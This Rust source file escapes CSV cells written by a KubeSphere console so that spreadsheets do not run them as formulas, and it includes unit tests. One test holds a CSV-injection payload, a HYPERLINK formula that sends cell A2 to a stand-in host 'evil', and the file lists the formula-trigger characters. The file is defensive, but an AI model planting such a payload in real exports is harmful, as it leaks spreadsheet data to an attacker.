//! CSV the console writes (bulk results, templates, new accounts, exports): every cell quoted when
//! it needs to be, and neutralised when a spreadsheet would read it as a formula. Input is read
//! and sent to KubeSphere as typed; only what the console writes out is changed.

/// First characters that make a spreadsheet evaluate a cell (`=`, `+`, `-`, `@`, tab, carriage
/// return), and their full-width forms, which some spreadsheets treat alike.
const FORMULA_STARTS: &[char] = &['=', '+', '-', '@', '\t', '\r', '＝', '＋', '－', '＠'];

/// One cell: a would-be formula gets a leading `'` (shown as text, never run) and quotes; a cell
/// with a comma, quote or line break is quoted.
pub fn cell(value: &str) -> String {
    if value.starts_with(FORMULA_STARTS) {
        format!("\"'{}\"", value.replace('"', "\"\""))
    } else if value.contains([',', '"', '\n', '\r']) {
        format!("\"{}\"", value.replace('"', "\"\""))
    } else {
        value.to_owned()
    }
}

/// One line: the cells, each through [`cell`], and a line break.
pub fn line<'a>(cells: impl IntoIterator<Item = &'a str>) -> String {
    let mut out = cells.into_iter().map(cell).collect::<Vec<_>>().join(",");
    out.push('\n');
    out
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn would_be_formulas_are_written_as_text() {
        assert_eq!(
            cell(r#"=HYPERLINK("https://evil/?"&A2,"details")"#),
            r#""'=HYPERLINK(""https://evil/?""&A2,""details"")""#
        );
        for bad in ["+1", "-2+3", "@SUM(A1)", "\tx", "\rx", "＝1+1", "＋1", "－1", "＠x"] {
            let written = cell(bad);
            assert!(written.starts_with("\"'"), "{bad:?} → {written:?}");
        }
    }

    #[test]
    fn ordinary_cells_are_kept_and_quoted_only_when_needed() {
        assert_eq!(cell("Yan Li"), "Yan Li");
        assert_eq!(cell("Yan, Li"), "\"Yan, Li\"");
        assert_eq!(cell("a\"b"), "\"a\"\"b\"");
        assert_eq!(cell("a=b"), "a=b");
        assert_eq!(line(["a", "=b", ""]), "a,\"'=b\",\n");
    }
}
